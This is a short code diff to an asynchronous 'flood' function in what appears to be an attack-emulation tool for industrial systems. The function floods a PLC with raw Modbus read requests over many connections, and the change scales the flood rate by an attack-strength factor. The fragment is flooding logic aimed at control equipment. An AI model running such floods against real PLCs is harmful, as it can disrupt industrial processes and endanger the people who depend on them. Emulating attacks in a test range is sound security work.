@@ -174,7 +174,7 @@ async def flood(attack: Attack, step: Flood) -> None:
     end = loop.time() + step.lasting
     # Read one input register: transaction, protocol 0, six more bytes, unit, function 4, address 0, count 1.
     request = bytes((0, 1, 0, 0, 0, 6, asset.unit_id, 4, 0, 0, 0, 1))
-    each = step.rate * BURST / step.connections
+    each = step.rate * attack.strength * BURST / step.connections
     hoses: list[_Hose] = []
 
     async def one(number: int) -> None:
@@ -204,5 +204,5 @@ async def flood(attack: Attack, step: Flood) -> None:
             attack.note(step, "done" if returned > before else "refused", target=step.plc)
             before = returned
 
-    attack.note(step, "flooding", target=step.plc, rate=step.rate)
+    attack.note(step, "flooding", target=step.plc, rate=step.rate * attack.strength)
     await asyncio.gather(look(), *(one(number) for number in range(step.connections)))
